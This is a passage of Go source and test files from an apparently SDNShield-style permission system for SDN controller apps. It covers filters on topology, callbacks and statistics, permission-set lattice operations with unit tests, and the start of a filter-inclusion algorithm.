	if call.HasDPID && !ok(call.DPID) {
		return false, true
	}
	for _, s := range call.Switches {
		if !ok(s) {
			return false, true
		}
	}
	return true, true
}

// Includes implements Filter.
func (f *VirtTopoFilter) Includes(other Filter) bool {
	o, ok := other.(*VirtTopoFilter)
	return ok && f.Equal(o)
}

// DisjointWith implements Filter.
func (f *VirtTopoFilter) DisjointWith(Filter) bool { return false }

// Total implements Filter.
func (f *VirtTopoFilter) Total() bool { return false }

// Equal implements Filter.
func (f *VirtTopoFilter) Equal(other Filter) bool {
	o, ok := other.(*VirtTopoFilter)
	if !ok || o.mode != f.mode || len(o.groups) != len(f.groups) {
		return false
	}
	for v, members := range f.groups {
		om, exists := o.groups[v]
		if !exists || len(om) != len(members) {
			return false
		}
		for i := range members {
			if om[i] != members[i] {
				return false
			}
		}
	}
	return true
}

// String implements Filter.
func (f *VirtTopoFilter) String() string {
	if f.mode == VirtSingleBigSwitch {
		return "VIRTUAL SINGLE_BIG_SWITCH"
	}
	vids := make([]of.DPID, 0, len(f.groups))
	for v := range f.groups {
		vids = append(vids, v)
	}
	sort.Slice(vids, func(i, j int) bool { return vids[i] < vids[j] })
	var sb strings.Builder
	sb.WriteString("VIRTUAL {")
	for i, v := range vids {
		if i > 0 {
			sb.WriteString(",")
		}
		sb.WriteString("{")
		for j, m := range f.groups[v] {
			if j > 0 {
				sb.WriteString(",")
			}
			fmt.Fprintf(&sb, "%d", uint64(m))
		}
		fmt.Fprintf(&sb, "} AS %d", uint64(v))
	}
	sb.WriteString("}")
	return sb.String()
}

// ---------------------------------------------------------------------------
// Callback filter

// CallbackFilter grants one way of interacting with event notifications
// beyond plain observation: intercepting events or reordering delivery.
type CallbackFilter struct {
	allowed CallbackOp
}

// NewCallbackFilter permits the given callback interaction (observation is
// always permitted).
func NewCallbackFilter(allowed CallbackOp) *CallbackFilter {
	return &CallbackFilter{allowed: allowed}
}

// Allowed returns the permitted interaction.
func (f *CallbackFilter) Allowed() CallbackOp { return f.allowed }

// Dimension implements Filter.
func (f *CallbackFilter) Dimension() string { return DimCallback }

// Test implements Filter.
func (f *CallbackFilter) Test(call *Call) (bool, bool) {
	if call.Event == 0 {
		return false, false
	}
	return call.Event == CallbackObserve || call.Event == f.allowed, true
}

// Includes implements Filter.
func (f *CallbackFilter) Includes(other Filter) bool {
	o, ok := other.(*CallbackFilter)
	return ok && o.allowed == f.allowed
}

// DisjointWith implements Filter.
func (f *CallbackFilter) DisjointWith(Filter) bool {
	// Plain observation satisfies every callback filter.
	return false
}

// Total implements Filter.
func (f *CallbackFilter) Total() bool { return false }

// Equal implements Filter.
func (f *CallbackFilter) Equal(other Filter) bool {
	o, ok := other.(*CallbackFilter)
	return ok && *o == *f
}

// String implements Filter.
func (f *CallbackFilter) String() string { return f.allowed.String() }

// ---------------------------------------------------------------------------
// Statistics filter

// statsRank orders granularities from coarse to fine.
func statsRank(t of.StatsType) int {
	switch t {
	case of.StatsSwitch:
		return 1
	case of.StatsPort:
		return 2
	case of.StatsFlow:
		return 3
	default:
		return 0
	}
}

// StatsFilter caps the granularity of visible statistics: a PORT_LEVEL
// grant admits port- and switch-level queries but not per-flow counters.
type StatsFilter struct {
	level of.StatsType
}

// NewStatsFilter permits statistics up to the given granularity.
func NewStatsFilter(level of.StatsType) *StatsFilter { return &StatsFilter{level: level} }

// Level returns the finest permitted granularity.
func (f *StatsFilter) Level() of.StatsType { return f.level }

// Dimension implements Filter.
func (f *StatsFilter) Dimension() string { return DimStats }

// Test implements Filter.
func (f *StatsFilter) Test(call *Call) (bool, bool) {
	if call.StatsLevel == 0 {
		return false, false
	}
	return statsRank(call.StatsLevel) <= statsRank(f.level), true
}

// Includes implements Filter.
func (f *StatsFilter) Includes(other Filter) bool {
	o, ok := other.(*StatsFilter)
	return ok && statsRank(f.level) >= statsRank(o.level)
}

// DisjointWith implements Filter.
func (f *StatsFilter) DisjointWith(Filter) bool {
	// Every stats filter admits switch-level queries.
	return false
}

// Total implements Filter.
func (f *StatsFilter) Total() bool { return f.level == of.StatsFlow }

// Equal implements Filter.
func (f *StatsFilter) Equal(other Filter) bool {
	o, ok := other.(*StatsFilter)
	return ok && *o == *f
}

// String implements Filter.
func (f *StatsFilter) String() string { return f.level.String() + "_LEVEL" }

// Compile-time interface compliance checks.
var (
	_ Filter = (*PredFilter)(nil)
	_ Filter = (*WildcardFilter)(nil)
	_ Filter = (*ActionFilter)(nil)
	_ Filter = (*OwnerFilter)(nil)
	_ Filter = (*PriorityFilter)(nil)
	_ Filter = (*TableSizeFilter)(nil)
	_ Filter = (*PktOutFilter)(nil)
	_ Filter = (*PhysTopoFilter)(nil)
	_ Filter = (*VirtTopoFilter)(nil)
	_ Filter = (*CallbackFilter)(nil)
	_ Filter = (*StatsFilter)(nil)
)
