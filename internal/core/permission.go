package core

import (
	"fmt"
	"sort"
	"strings"
)

// Permission is one granted privilege: a token optionally refined by a
// filter expression. A nil Filter grants the token unconditionally.
type Permission struct {
	Token  Token
	Filter Expr
}

// String renders the permission in permission-language syntax.
func (p Permission) String() string {
	if p.Filter == nil {
		return "PERM " + p.Token.String()
	}
	return fmt.Sprintf("PERM %s LIMITING %s", p.Token, p.Filter)
}

// Set is an app's effective permissions: for each granted token, the
// filter expression bounding its use. Sets support the lattice operations
// (MEET, JOIN, inclusion) the security-policy language is defined over.
//
// The zero value is not usable; construct with NewSet. Set is not safe for
// concurrent mutation; the permission engine treats compiled sets as
// immutable.
type Set struct {
	filters map[Token]Expr
	order   []Token
}

// NewSet returns an empty permission set.
func NewSet() *Set {
	return &Set{filters: make(map[Token]Expr)}
}

// NewSetOf builds a set from a list of permissions (convenience for tests
// and examples).
func NewSetOf(perms ...Permission) *Set {
	s := NewSet()
	for _, p := range perms {
		s.Grant(p.Token, p.Filter)
	}
	return s
}

// Grant adds a permission. Granting an already-present token widens it:
// the filters are joined (OR), and a nil filter makes the grant
// unconditional.
func (s *Set) Grant(token Token, filter Expr) *Set {
	existing, ok := s.filters[token]
	if !ok {
		s.filters[token] = filter
		s.order = append(s.order, token)
		return s
	}
	if existing == nil || filter == nil {
		s.filters[token] = nil
		return s
	}
	s.filters[token] = &Or{L: existing, R: filter}
	return s
}

// Restrict narrows an existing grant by conjoining filter. Restricting an
// absent token is a no-op.
func (s *Set) Restrict(token Token, filter Expr) *Set {
	existing, ok := s.filters[token]
	if !ok || filter == nil {
		return s
	}
	if existing == nil {
		s.filters[token] = filter
	} else {
		s.filters[token] = &And{L: existing, R: filter}
	}
	return s
}

// Revoke removes a token entirely.
func (s *Set) Revoke(token Token) *Set {
	if _, ok := s.filters[token]; !ok {
		return s
	}
	delete(s.filters, token)
	for i, t := range s.order {
		if t == token {
			s.order = append(s.order[:i], s.order[i+1:]...)
			break
		}
	}
	return s
}

// Has reports whether the token is granted (in any refined form).
func (s *Set) Has(token Token) bool {
	_, ok := s.filters[token]
	return ok
}

// FilterFor returns the filter bounding a granted token. ok is false when
// the token is not granted at all; a nil filter with ok true means the
// grant is unconditional.
func (s *Set) FilterFor(token Token) (Expr, bool) {
	f, ok := s.filters[token]
	return f, ok
}

// Tokens returns the granted tokens in grant order.
func (s *Set) Tokens() []Token {
	out := make([]Token, len(s.order))
	copy(out, s.order)
	return out
}

// Len returns the number of granted tokens.
func (s *Set) Len() int { return len(s.order) }

// SortedTokens returns the granted tokens in ascending token order —
// a canonical ordering independent of grant history, for renderings
// that must be stable across runs (market diffs, signed manifests).
func (s *Set) SortedTokens() []Token {
	out := s.Tokens()
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// SortedPermissions returns the grants in ascending token order.
func (s *Set) SortedPermissions() []Permission {
	tokens := s.SortedTokens()
	out := make([]Permission, 0, len(tokens))
	for _, t := range tokens {
		out = append(out, Permission{Token: t, Filter: s.filters[t]})
	}
	return out
}

// SortedString renders the set as a permission manifest in canonical
// (ascending token) order.
func (s *Set) SortedString() string {
	var sb strings.Builder
	for i, p := range s.SortedPermissions() {
		if i > 0 {
			sb.WriteString("\n")
		}
		sb.WriteString(p.String())
	}
	return sb.String()
}

// Permissions returns the grants in order.
func (s *Set) Permissions() []Permission {
	out := make([]Permission, 0, len(s.order))
	for _, t := range s.order {
		out = append(out, Permission{Token: t, Filter: s.filters[t]})
	}
	return out
}

// Clone returns a copy sharing the (immutable) filter expressions.
func (s *Set) Clone() *Set {
	c := NewSet()
	for _, t := range s.order {
		c.filters[t] = s.filters[t]
		c.order = append(c.order, t)
	}
	return c
}

// Allows reports whether the set authorizes the call: the required token
// must be granted and the call must satisfy its filter.
func (s *Set) Allows(call *Call) bool {
	filter, ok := s.filters[call.Token]
	if !ok {
		return false
	}
	return filter == nil || filter.Eval(call)
}

// Meet returns the intersection of two permission sets: tokens granted by
// both, each bounded by the conjunction of both filters. This is the
// repair operation for permission-boundary violations (§V-B).
func (s *Set) Meet(other *Set) *Set {
	out := NewSet()
	for _, t := range s.order {
		otherFilter, ok := other.filters[t]
		if !ok {
			continue
		}
		out.Grant(t, AndAll(s.filters[t], otherFilter))
	}
	return out
}

// Join returns the union of two permission sets: all tokens from either,
// each bounded by the disjunction of the granted filters.
func (s *Set) Join(other *Set) *Set {
	out := NewSet()
	for _, t := range s.order {
		if otherFilter, ok := other.filters[t]; ok {
			out.Grant(t, OrAll(s.filters[t], otherFilter))
		} else {
			out.Grant(t, s.filters[t])
		}
	}
	for _, t := range other.order {
		if !s.Has(t) {
			out.Grant(t, other.filters[t])
		}
	}
	return out
}

// Includes reports whether s permits at least every behaviour permitted
// by other ("other <= s" in the policy language). Token orthogonality
// reduces the question to per-token filter inclusion (Algorithm 1).
func (s *Set) Includes(other *Set) (bool, error) {
	for _, t := range other.order {
		mine, ok := s.filters[t]
		if !ok {
			return false, nil
		}
		inc, err := Includes(mine, other.filters[t])
		if err != nil || !inc {
			return false, err
		}
	}
	return true, nil
}

// Equal reports mutual inclusion (semantic equality) of two sets.
func (s *Set) Equal(other *Set) (bool, error) {
	ab, err := s.Includes(other)
	if err != nil || !ab {
		return false, err
	}
	return other.Includes(s)
}

// String renders the set as a permission manifest.
func (s *Set) String() string {
	var sb strings.Builder
	for i, p := range s.Permissions() {
		if i > 0 {
			sb.WriteString("\n")
		}
		sb.WriteString(p.String())
	}
	return sb.String()
}
