package core

// Filter is a singleton permission filter (§IV-B): a predicate over one
// attribute dimension of an API call. Filters on different dimensions are
// independent — they never include or exclude each other — which is what
// makes Algorithm 1's per-dimension comparison sound.
//
// Implementations must be immutable after construction: the permission
// engine shares compiled filters across concurrent checks.
type Filter interface {
	// Dimension names the attribute axis the filter inspects. Two filters
	// are comparable only when their dimensions are equal.
	Dimension() string

	// Test labels the call. applicable is false when the call does not
	// carry the attribute this filter inspects; such filters pass the call
	// through unmodified (the paper: a singleton filter "is only effective
	// to modify a subset of permissions that contain the specific
	// attributes it inspects").
	Test(call *Call) (matched, applicable bool)

	// Includes reports whether every call this filter labels true is also
	// labeled true by the receiver. It must be conservative: returning
	// false when unsure is sound, returning true when wrong is not.
	// Callers guarantee other has the same dimension.
	Includes(other Filter) bool

	// DisjointWith reports whether no call can be labeled true by both
	// filters. Conservative in the same direction as Includes.
	DisjointWith(other Filter) bool

	// Total reports whether the filter labels every applicable call true.
	Total() bool

	// Equal reports structural equality.
	Equal(other Filter) bool

	// String renders the filter in permission-language syntax.
	String() string
}

// Filter dimensions. Predicate and wildcard filters append the field name
// so that, e.g., an IP_SRC predicate never constrains an IP_DST predicate.
const (
	DimAction    = "action"
	DimOwner     = "owner"
	DimPriority  = "priority"
	DimTableSize = "tablesize"
	DimPktOut    = "pktout"
	DimPhysTopo  = "topo"
	DimVirtTopo  = "topo:virt"
	DimCallback  = "callback"
	DimStats     = "stats"
)
