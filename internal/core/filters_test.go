package core

import (
	"testing"

	"sdnshield/internal/of"
)

// insertCall builds a flow-insert call with the given match, the shape the
// predicate/wildcard/action filters are usually checked against.
func insertCall(app string, match *of.Match, actions []of.Action) *Call {
	return &Call{
		App:          app,
		Token:        TokenInsertFlow,
		DPID:         1,
		HasDPID:      true,
		Match:        match,
		Actions:      actions,
		Priority:     100,
		HasPriority:  true,
		HasRuleCount: true,
		HasFlowOwner: true,
	}
}

func subnet(a, b, c, d byte, bits int) (uint64, uint64) {
	return uint64(of.IPv4FromOctets(a, b, c, d)), uint64(of.PrefixMask(bits))
}

func TestPredFilterTest(t *testing.T) {
	v, m := subnet(10, 13, 0, 0, 16)
	f := NewPredFilter(of.FieldIPDst, v, m)

	inside := of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(10, 13, 7, 7)))
	outside := of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(10, 14, 7, 7)))
	narrower := of.NewMatch()
	nv, nm := subnet(10, 13, 7, 0, 24)
	narrower.SetMasked(of.FieldIPDst, nv, nm)
	wider := of.NewMatch()
	wv, wm := subnet(10, 0, 0, 0, 8)
	wider.SetMasked(of.FieldIPDst, wv, wm)

	tests := []struct {
		name  string
		match *of.Match
		want  bool
	}{
		{"exact ip inside", inside, true},
		{"exact ip outside", outside, false},
		{"narrower subnet", narrower, true},
		{"wider subnet rejected", wider, false},
		{"wildcarded field rejected", of.NewMatch(), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, applicable := f.Test(insertCall("app", tt.match, nil))
			if !applicable {
				t.Fatal("filter should be applicable to flow calls")
			}
			if got != tt.want {
				t.Errorf("Test = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestPredFilterHostNetworkMapping(t *testing.T) {
	// The paper's "network_access LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0".
	v, m := subnet(10, 1, 0, 0, 16)
	f := NewPredFilter(of.FieldIPDst, v, m)

	adminCall := &Call{App: "monitor", Token: TokenHostNetwork,
		HostIP: of.IPv4FromOctets(10, 1, 3, 4), HostPort: 443, HasHostIP: true}
	attackerCall := &Call{App: "monitor", Token: TokenHostNetwork,
		HostIP: of.IPv4FromOctets(203, 0, 113, 5), HostPort: 80, HasHostIP: true}

	if got, app := f.Test(adminCall); !app || !got {
		t.Errorf("admin-range connect = (%v,%v), want allow", got, app)
	}
	if got, app := f.Test(attackerCall); !app || got {
		t.Errorf("attacker connect = (%v,%v), want deny", got, app)
	}
	// Filter is inapplicable to calls without the attribute.
	if _, app := f.Test(&Call{App: "x", Token: TokenFileSystem, Path: "/etc"}); app {
		t.Error("IP filter should not apply to file-system calls")
	}
}

func TestPredFilterIncludesDisjoint(t *testing.T) {
	v16, m16 := subnet(10, 13, 0, 0, 16)
	v24, m24 := subnet(10, 13, 7, 0, 24)
	vOther, _ := subnet(10, 14, 0, 0, 16)

	wide := NewPredFilter(of.FieldIPDst, v16, m16)
	narrow := NewPredFilter(of.FieldIPDst, v24, m24)
	other := NewPredFilter(of.FieldIPDst, vOther, m16)
	srcWide := NewPredFilter(of.FieldIPSrc, v16, m16)

	if !wide.Includes(narrow) {
		t.Error("/16 should include /24 (paper §V-B example)")
	}
	if narrow.Includes(wide) {
		t.Error("/24 must not include /16")
	}
	if !wide.Includes(wide) {
		t.Error("inclusion must be reflexive")
	}
	if wide.Includes(other) || other.Includes(wide) {
		t.Error("disjoint subnets must not include each other")
	}
	if !wide.DisjointWith(other) {
		t.Error("10.13/16 and 10.14/16 are disjoint")
	}
	if wide.DisjointWith(narrow) {
		t.Error("nested subnets are not disjoint")
	}
	if wide.Includes(srcWide) || srcWide.Includes(wide) {
		t.Error("different fields are incomparable")
	}
	if wide.DisjointWith(srcWide) {
		t.Error("different fields are never disjoint")
	}
}

func TestWildcardFilter(t *testing.T) {
	// Paper's load balancer: upper 24 bits of IP_DST must stay wildcarded.
	req := uint64(of.PrefixMask(24))
	f := NewWildcardFilter(of.FieldIPDst, req)

	okMatch := of.NewMatch().SetMasked(of.FieldIPDst, 0x07, uint64(of.IPv4(0x000000ff)))
	badMatch := of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(10, 0, 0, 7)))

	if got, app := f.Test(insertCall("lb", okMatch, nil)); !app || !got {
		t.Errorf("low-8-bit rule = (%v,%v), want allow", got, app)
	}
	if got, app := f.Test(insertCall("lb", badMatch, nil)); !app || got {
		t.Errorf("full-IP rule = (%v,%v), want deny", got, app)
	}
	if got, app := f.Test(insertCall("lb", of.NewMatch(), nil)); !app || !got {
		t.Errorf("fully wildcarded rule = (%v,%v), want allow", got, app)
	}

	less := NewWildcardFilter(of.FieldIPDst, uint64(of.PrefixMask(16)))
	if !less.Includes(f) {
		t.Error("requiring fewer wildcard bits is more permissive")
	}
	if f.Includes(less) {
		t.Error("requiring more wildcard bits must not include fewer")
	}
	if f.DisjointWith(less) {
		t.Error("wildcard filters never disjoint")
	}
	if !NewWildcardFilter(of.FieldIPDst, 0).Total() {
		t.Error("zero requirement is total")
	}
}

func TestActionFilter(t *testing.T) {
	fwd := NewActionFilter(ActionClassForward)
	drop := NewActionFilter(ActionClassDrop)
	modAny := NewModifyActionFilter(0)
	modDst := NewModifyActionFilter(of.FieldIPDst)

	tests := []struct {
		name    string
		filter  *ActionFilter
		actions []of.Action
		want    bool
	}{
		{"fwd allows output", fwd, []of.Action{of.Output(3)}, true},
		{"fwd allows flood", fwd, []of.Action{of.Flood()}, true},
		{"fwd rejects modify", fwd, []of.Action{of.SetField(of.FieldIPDst, 1), of.Output(2)}, false},
		{"fwd rejects drop", fwd, []of.Action{of.Drop()}, false},
		{"drop allows drop", drop, []of.Action{of.Drop()}, true},
		{"drop allows empty list", drop, []of.Action{}, true},
		{"drop rejects output", drop, []of.Action{of.Output(1)}, false},
		{"modify allows rewrite+fwd", modAny, []of.Action{of.SetField(of.FieldIPDst, 1), of.Output(2)}, true},
		{"modify allows pure fwd", modAny, []of.Action{of.Output(2)}, true},
		{"modify rejects drop", modAny, []of.Action{of.Drop()}, false},
		{"modify field hit", modDst, []of.Action{of.SetField(of.FieldIPDst, 1), of.Output(2)}, true},
		{"modify field miss", modDst, []of.Action{of.SetField(of.FieldIPSrc, 1), of.Output(2)}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, app := tt.filter.Test(insertCall("app", of.NewMatch(), tt.actions))
			if !app {
				t.Fatal("action filter should apply to calls with actions")
			}
			if got != tt.want {
				t.Errorf("Test = %v, want %v", got, tt.want)
			}
		})
	}

	if _, app := fwd.Test(&Call{Token: TokenReadStatistics, StatsLevel: of.StatsPort}); app {
		t.Error("action filter should not apply to stats calls")
	}
	if !modAny.Includes(modDst) || modDst.Includes(modAny) {
		t.Error("MODIFY(any) strictly includes MODIFY(field)")
	}
	if !modAny.Includes(fwd) {
		t.Error("MODIFY includes FORWARD (rewrite rules may end in a forward)")
	}
	if !fwd.DisjointWith(drop) || !drop.DisjointWith(modAny) {
		t.Error("FORWARD/DROP and DROP/MODIFY are disjoint")
	}
	if fwd.DisjointWith(modAny) {
		t.Error("FORWARD overlaps MODIFY")
	}
	if !NewModifyActionFilter(of.FieldIPSrc).DisjointWith(modDst) {
		t.Error("MODIFY on different fields is disjoint")
	}
}

func TestOwnerFilter(t *testing.T) {
	own := NewOwnerFilter(true)
	all := NewOwnerFilter(false)

	mine := insertCall("router", of.NewMatch(), nil)
	mine.FlowOwner = "router"
	theirs := insertCall("router", of.NewMatch(), nil)
	theirs.FlowOwner = "firewall"
	fresh := insertCall("router", of.NewMatch(), nil) // no owner: new flow

	if got, _ := own.Test(mine); !got {
		t.Error("own flow should pass OWN_FLOWS")
	}
	if got, _ := own.Test(theirs); got {
		t.Error("foreign flow must fail OWN_FLOWS")
	}
	if got, _ := own.Test(fresh); !got {
		t.Error("new flow belongs to its creator")
	}
	if got, _ := all.Test(theirs); !got {
		t.Error("ALL_FLOWS admits everything")
	}
	if !all.Includes(own) || own.Includes(all) {
		t.Error("ALL_FLOWS strictly includes OWN_FLOWS")
	}
	if !all.Total() || own.Total() {
		t.Error("totality misreported")
	}
}

func TestPriorityFilter(t *testing.T) {
	max100 := NewMaxPriorityFilter(100)
	max200 := NewMaxPriorityFilter(200)
	min150 := NewMinPriorityFilter(150)
	min50 := NewMinPriorityFilter(50)

	call := insertCall("app", of.NewMatch(), nil)
	call.Priority = 120
	if got, _ := max100.Test(call); got {
		t.Error("priority 120 must fail MAX_PRIORITY 100")
	}
	if got, _ := max200.Test(call); !got {
		t.Error("priority 120 passes MAX_PRIORITY 200")
	}
	if got, _ := min150.Test(call); got {
		t.Error("priority 120 must fail MIN_PRIORITY 150")
	}
	if got, _ := min50.Test(call); !got {
		t.Error("priority 120 passes MIN_PRIORITY 50")
	}

	if !max200.Includes(max100) || max100.Includes(max200) {
		t.Error("larger MAX bound includes smaller")
	}
	if !min50.Includes(min150) || min150.Includes(min50) {
		t.Error("smaller MIN bound includes larger")
	}
	if max200.Includes(min50) || min50.Includes(max200) {
		t.Error("MAX and MIN are incomparable (conservatively)")
	}
	if !max100.DisjointWith(min150) {
		t.Error("MAX 100 and MIN 150 are disjoint")
	}
	if max200.DisjointWith(min150) {
		t.Error("MAX 200 and MIN 150 overlap")
	}
	if !NewMaxPriorityFilter(0xffff).Total() || !NewMinPriorityFilter(0).Total() {
		t.Error("extreme bounds are total")
	}
}

func TestTableSizeFilter(t *testing.T) {
	f := NewTableSizeFilter(10)
	call := insertCall("app", of.NewMatch(), nil)
	call.RuleCount = 9
	if got, _ := f.Test(call); !got {
		t.Error("9 < 10 should pass")
	}
	call.RuleCount = 10
	if got, _ := f.Test(call); got {
		t.Error("10 rules hit the cap")
	}
	if !NewTableSizeFilter(20).Includes(f) || f.Includes(NewTableSizeFilter(20)) {
		t.Error("larger cap includes smaller")
	}
}

func TestPktOutFilter(t *testing.T) {
	fromIn := NewPktOutFilter(false)
	arb := NewPktOutFilter(true)

	buffered := &Call{App: "a", Token: TokenSendPktOut, FromPktIn: true, HasProvenance: true}
	forged := &Call{App: "a", Token: TokenSendPktOut, FromPktIn: false, HasProvenance: true}

	if got, _ := fromIn.Test(buffered); !got {
		t.Error("buffered pkt-out passes FROM_PKT_IN")
	}
	if got, _ := fromIn.Test(forged); got {
		t.Error("forged pkt-out must fail FROM_PKT_IN")
	}
	if got, _ := arb.Test(forged); !got {
		t.Error("ARBITRARY admits forged payloads")
	}
	if !arb.Includes(fromIn) || fromIn.Includes(arb) {
		t.Error("ARBITRARY strictly includes FROM_PKT_IN")
	}
	if !arb.Total() || fromIn.Total() {
		t.Error("totality misreported")
	}
}

func TestPhysTopoFilter(t *testing.T) {
	f := NewPhysTopoFilter([]of.DPID{1, 2, 3})

	visible := &Call{Token: TokenVisibleTopology, Switches: []of.DPID{1, 3},
		Links: []LinkID{NewLinkID(1, 3)}}
	hidden := &Call{Token: TokenVisibleTopology, Switches: []of.DPID{1, 9}}
	crossLink := &Call{Token: TokenVisibleTopology, Links: []LinkID{NewLinkID(1, 9)}}

	if got, app := f.Test(visible); !app || !got {
		t.Errorf("in-scope topology call = (%v,%v), want allow", got, app)
	}
	if got, _ := f.Test(hidden); got {
		t.Error("switch 9 is outside the filter")
	}
	if got, _ := f.Test(crossLink); got {
		t.Error("link to hidden switch must be denied")
	}
	dpidCall := &Call{Token: TokenInsertFlow, DPID: 2, HasDPID: true,
		Match: of.NewMatch(), HasFlowOwner: true}
	if got, _ := f.Test(dpidCall); !got {
		t.Error("flow-mod on permitted switch passes")
	}
	dpidCall.DPID = 7
	if got, _ := f.Test(dpidCall); got {
		t.Error("flow-mod on hidden switch fails")
	}

	sub := NewPhysTopoFilter([]of.DPID{1, 2})
	if !f.Includes(sub) || sub.Includes(f) {
		t.Error("superset switch set includes subset")
	}
	other := NewPhysTopoFilter([]of.DPID{8, 9})
	if !f.DisjointWith(other) {
		t.Error("disjoint switch sets are disjoint")
	}

	explicit := NewPhysTopoFilterWithLinks([]of.DPID{1, 2, 3}, []LinkID{NewLinkID(1, 2)})
	if explicit.AllowsLink(NewLinkID(2, 3)) {
		t.Error("explicit link set excludes unlisted links")
	}
	if !f.Includes(explicit) {
		t.Error("derived links over {1,2,3} cover explicit {1-2}")
	}
	if explicit.Includes(f) {
		t.Error("explicit {1-2} cannot cover derived links of {1,2,3}")
	}
	if !explicit.Includes(NewPhysTopoFilterWithLinks([]of.DPID{1, 2}, []LinkID{NewLinkID(1, 2)})) {
		t.Error("explicit superset should include explicit subset")
	}
}

func TestVirtTopoFilter(t *testing.T) {
	big := NewSingleBigSwitchFilter()
	virtualCall := &Call{Token: TokenInsertFlow, DPID: 0, HasDPID: true,
		Match: of.NewMatch(), HasFlowOwner: true}
	physCall := &Call{Token: TokenInsertFlow, DPID: 4, HasDPID: true,
		Match: of.NewMatch(), HasFlowOwner: true}

	if got, app := big.Test(virtualCall); !app || !got {
		t.Errorf("virtual switch call = (%v,%v), want allow", got, app)
	}
	if got, _ := big.Test(physCall); got {
		t.Error("physical DPID must be invisible behind a big switch")
	}

	mapped := NewMappedTopoFilter(map[of.DPID][]of.DPID{100: {1, 2}, 101: {3}})
	vc := &Call{Token: TokenVisibleTopology, Switches: []of.DPID{100, 101}}
	if got, _ := mapped.Test(vc); !got {
		t.Error("virtual ids are visible")
	}
	pc := &Call{Token: TokenVisibleTopology, Switches: []of.DPID{1}}
	if got, _ := mapped.Test(pc); got {
		t.Error("physical ids are hidden")
	}
	if !mapped.Equal(NewMappedTopoFilter(map[of.DPID][]of.DPID{101: {3}, 100: {2, 1}})) {
		t.Error("equality should be order-insensitive")
	}
	if mapped.Equal(big) || big.Includes(mapped) {
		t.Error("different modes differ")
	}
}

func TestCallbackFilter(t *testing.T) {
	intercept := NewCallbackFilter(CallbackIntercept)
	observe := &Call{Token: TokenPktInEvent, Event: CallbackObserve}
	doIntercept := &Call{Token: TokenPktInEvent, Event: CallbackIntercept}
	reorder := &Call{Token: TokenPktInEvent, Event: CallbackReorder}

	if got, _ := intercept.Test(observe); !got {
		t.Error("plain observation always passes")
	}
	if got, _ := intercept.Test(doIntercept); !got {
		t.Error("granted interception passes")
	}
	if got, _ := intercept.Test(reorder); got {
		t.Error("reordering requires its own grant")
	}
}

func TestStatsFilter(t *testing.T) {
	port := NewStatsFilter(of.StatsPort)
	flowCall := &Call{Token: TokenReadStatistics, StatsLevel: of.StatsFlow}
	portCall := &Call{Token: TokenReadStatistics, StatsLevel: of.StatsPort}
	switchCall := &Call{Token: TokenReadStatistics, StatsLevel: of.StatsSwitch}

	if got, _ := port.Test(flowCall); got {
		t.Error("PORT_LEVEL must hide per-flow counters")
	}
	if got, _ := port.Test(portCall); !got {
		t.Error("PORT_LEVEL admits port stats")
	}
	if got, _ := port.Test(switchCall); !got {
		t.Error("coarser queries pass")
	}

	flow := NewStatsFilter(of.StatsFlow)
	if !flow.Includes(port) || port.Includes(flow) {
		t.Error("FLOW_LEVEL strictly includes PORT_LEVEL")
	}
	if !flow.Total() || port.Total() {
		t.Error("totality misreported")
	}
}

func TestFilterStringRendering(t *testing.T) {
	v, m := subnet(10, 13, 0, 0, 16)
	tests := []struct {
		f    Filter
		want string
	}{
		{NewPredFilter(of.FieldIPDst, v, m), "IP_DST 10.13.0.0 MASK 255.255.0.0"},
		{NewPredFilter(of.FieldTPDst, 80, of.FullMask(of.FieldTPDst)), "TCP_DST 80"},
		{NewWildcardFilter(of.FieldIPDst, uint64(of.PrefixMask(24))), "WILDCARD IP_DST 255.255.255.0"},
		{NewActionFilter(ActionClassForward), "ACTION FORWARD"},
		{NewModifyActionFilter(of.FieldIPDst), "ACTION MODIFY IP_DST"},
		{NewOwnerFilter(true), "OWN_FLOWS"},
		{NewMaxPriorityFilter(500), "MAX_PRIORITY 500"},
		{NewTableSizeFilter(128), "MAX_RULE_COUNT 128"},
		{NewPktOutFilter(false), "FROM_PKT_IN"},
		{NewPhysTopoFilter([]of.DPID{2, 1}), "SWITCH {1,2}"},
		{NewSingleBigSwitchFilter(), "VIRTUAL SINGLE_BIG_SWITCH"},
		{NewCallbackFilter(CallbackIntercept), "EVENT_INTERCEPTION"},
		{NewStatsFilter(of.StatsPort), "PORT_LEVEL"},
	}
	for _, tt := range tests {
		if got := tt.f.String(); got != tt.want {
			t.Errorf("String() = %q, want %q", got, tt.want)
		}
	}
}

func TestFilterEqual(t *testing.T) {
	v, m := subnet(10, 13, 0, 0, 16)
	pool := []Filter{
		NewPredFilter(of.FieldIPDst, v, m),
		NewPredFilter(of.FieldIPSrc, v, m),
		NewWildcardFilter(of.FieldIPDst, m),
		NewActionFilter(ActionClassForward),
		NewOwnerFilter(true),
		NewMaxPriorityFilter(100),
		NewTableSizeFilter(10),
		NewPktOutFilter(true),
		NewPhysTopoFilter([]of.DPID{1, 2}),
		NewSingleBigSwitchFilter(),
		NewCallbackFilter(CallbackIntercept),
		NewStatsFilter(of.StatsPort),
	}
	for i, a := range pool {
		for j, b := range pool {
			if (i == j) != a.Equal(b) {
				t.Errorf("Equal(%s, %s) = %v", a, b, a.Equal(b))
			}
		}
	}
}
