package core

// This file implements the paper's Algorithm 1: deciding the inclusion
// relation of a pair of filter expressions. The left operand is converted
// to CNF and the right to DNF; inclusion holds iff every disjunctive
// clause of the left includes every conjunctive clause of the right, where
// a clause pair is decided by per-dimension singleton comparison. The
// result is sound and conservative, exactly as in the paper.

// literalIncludes reports whether the behaviour set of literal a includes
// that of literal x. Only same-dimension literals are comparable.
func literalIncludes(a, x Literal) bool {
	if a.F.Dimension() != x.F.Dimension() {
		return false
	}
	switch {
	case !a.Neg && !x.Neg:
		return a.F.Includes(x.F)
	case a.Neg && x.Neg:
		// ¬f ⊇ ¬g  ⇔  g ⊇ f
		return x.F.Includes(a.F)
	case a.Neg && !x.Neg:
		// ¬f ⊇ g  ⇔  f ∩ g = ∅
